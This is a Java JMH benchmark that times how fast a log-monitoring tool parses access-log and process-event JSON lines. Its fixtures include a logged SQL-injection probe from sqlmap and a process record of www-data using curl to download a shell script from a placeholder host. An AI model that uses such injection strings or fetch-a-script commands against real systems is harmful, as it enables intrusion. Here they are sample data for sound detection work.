package dev.vigil.bench;

import dev.vigil.ingest.Line;
import dev.vigil.ingest.LineParser;
import dev.vigil.ingest.combined.CombinedFormat;
import dev.vigil.ingest.process.ProcessJsonFormat;
import java.nio.charset.StandardCharsets;
import java.util.concurrent.TimeUnit;
import org.openjdk.jmh.annotations.Benchmark;
import org.openjdk.jmh.annotations.BenchmarkMode;
import org.openjdk.jmh.annotations.Fork;
import org.openjdk.jmh.annotations.Measurement;
import org.openjdk.jmh.annotations.Mode;
import org.openjdk.jmh.annotations.OutputTimeUnit;
import org.openjdk.jmh.annotations.Scope;
import org.openjdk.jmh.annotations.State;
import org.openjdk.jmh.annotations.Warmup;

/** Single-thread cost of parsing one line: a combined access-log line, a process JSON line. */
@State(Scope.Thread)
@BenchmarkMode(Mode.Throughput)
@OutputTimeUnit(TimeUnit.SECONDS)
@Warmup(iterations = 3, time = 1)
@Measurement(iterations = 5, time = 1)
@Fork(1)
public class ParserBenchmark {
    private static final String[] LINES = {
        "42.189.55.52 - - [01/Mar/2024:00:00:00 +0000] \"POST /wp-admin/admin-ajax.php HTTP/1.1\" 200 3892 \"-\" "
                + "\"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36\"",
        "221.134.31.75 - - [01/Mar/2024:00:00:00 +0000] \"GET /product/hiking-poles-685?ref=home&utm_source=x HTTP/1.1\" 200 76448 "
                + "\"https://shop.example.com/\" \"Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/123.0\"",
        "203.0.113.9 - - [01/Mar/2024:00:00:01 +0000] \"GET /search?q=%27%20OR%201%3D1--%20 HTTP/1.1\" 200 13 \"-\" "
                + "\"sqlmap/1.7.2#stable (https://sqlmap.org)\"",
    };

    private static final String[] PROCESS_LINES = {
        "{\"time\":1795000004108,\"host\":\"web039.example\",\"pid\":397,\"ppid\":392,\"exe\":\"/usr/bin/vim\","
                + "\"cmdline\":\"vim /etc/nginx/sites-available/shop\",\"user\":\"deploy\",\"cwd\":\"/home/deploy\"}",
        "{\"time\":1795000003862,\"host\":\"web040.example\",\"pid\":377,\"ppid\":343,\"exe\":\"/usr/bin/dash\","
                + "\"cmdline\":\"/bin/sh -c '/usr/lib/sysstat/debian-sa1 1 1 >/dev/null 2>&1'\",\"user\":\"root\",\"cwd\":\"/\"}",
        "{\"time\":\"2026-11-01T00:00:00Z\",\"host\":\"web1\",\"pid\":4242,\"ppid\":911,\"exe\":\"/usr/bin/curl\","
                + "\"argv\":[\"curl\",\"-s\",\"http://x/a.sh\"],\"parent_exe\":\"/bin/sh\",\"user\":\"www-data\"}",
    };

    private final Line[] lines = lines(LINES);
    private final Line[] processLines = lines(PROCESS_LINES);
    private final LineParser parser = CombinedFormat.COMBINED.newParser();
    private final LineParser processParser = ProcessJsonFormat.INSTANCE.newParser();
    private int i;

    private static Line[] lines(String[] text) {
        Line[] out = new Line[text.length];
        for (int k = 0; k < text.length; k++) {
            byte[] b = text[k].getBytes(StandardCharsets.UTF_8);
            out[k] = new Line();
            out[k].set(b, 0, b.length, "bench", k + 1, 0);
        }
        return out;
    }

    @Benchmark
    public Object parseCombined() {
        Line l = lines[i++ % lines.length];
        return parser.parse(l, LineParser.Rejects.IGNORE);
    }

    @Benchmark
    public Object parseProcessJson() {
        Line l = processLines[i++ % processLines.length];
        return processParser.parse(l, LineParser.Rejects.IGNORE);
    }
}
